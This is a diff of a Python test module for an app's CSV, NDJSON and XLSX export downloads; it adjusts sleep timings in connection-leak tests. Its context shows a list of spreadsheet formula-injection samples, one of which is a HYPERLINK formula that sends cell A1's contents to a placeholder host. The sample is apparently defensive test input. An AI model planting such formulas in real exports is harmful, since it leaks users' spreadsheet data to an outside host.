@@ -21,6 +21,7 @@ from app.matrix import CSV, NDJSON, XLSX
 from app.matrix_columns import columns
 from app.schemas.tasks import TaskFields
 from app.services.matrix import STEP
+from app.turns import REST
 
 FORMULAS = [
     '=HYPERLINK("http://example.org?"&A1,"klik")',
@@ -330,7 +331,7 @@ async def test_no_connection_is_held_while_somebody_reads_slowly(nation: FastAPI
     held: list[int] = []
 
     async def look(_: Download) -> None:
-        await asyncio.sleep(0.01)
+        await asyncio.sleep(10 * REST)
         held.append(nation.state.database.engine.pool.checkedout())
 
     for kind in KINDS:
@@ -366,6 +367,7 @@ async def test_who_goes_leaves_nothing_behind(nation: FastAPI, kpu_ri: Agency) -
 
     download = await Download(nation, kpu_ri).run(leave)
     assert not download.whole
+    await asyncio.sleep(10 * REST)
     assert nation.state.files._clients.total() == 0
     assert nation.state.database.engine.pool.checkedout() == 0
 
